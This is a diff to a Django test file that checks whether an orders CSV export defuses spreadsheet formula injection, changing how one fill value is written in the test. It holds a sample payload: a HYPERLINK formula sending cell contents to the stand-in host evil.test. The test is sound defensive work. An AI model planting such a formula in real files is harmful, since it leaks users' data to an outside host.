@@ -11,6 +11,7 @@ import pytest
 from asgiref.sync import async_to_sync
 from django.contrib.auth.models import AbstractBaseUser
 from django.db import connection
+from django.db.models import QuerySet
 from django.test import AsyncClient
 from django.test.utils import CaptureQueriesContext
 from hypothesis import given
@@ -132,7 +133,7 @@ def test_what_a_stranger_wrote_is_no_formula(acme: BarSeries, place: Place, api:
     order = place()
     harmful = '=HYPERLINK("http://evil.test/?"&A1,"click, please")'
     Order.objects.filter(pk=order.pk).update(client_order_id="@SUM(1)", detail=harmful, venue_order_id="+1")
-    Fill.objects.update(venue_fill_id="\t=1")
+    QuerySet(Fill).update(venue_fill_id="\t=1")  # past the ledger, which never changes a fill
     [row] = rows(api("viewer").get("/api/portfolio/orders/export"))
     assert (row["client_order_id"], row["venue_order_id"]) == ("'@SUM(1)", "'+1")
     assert row["detail"] == f"'{harmful}"
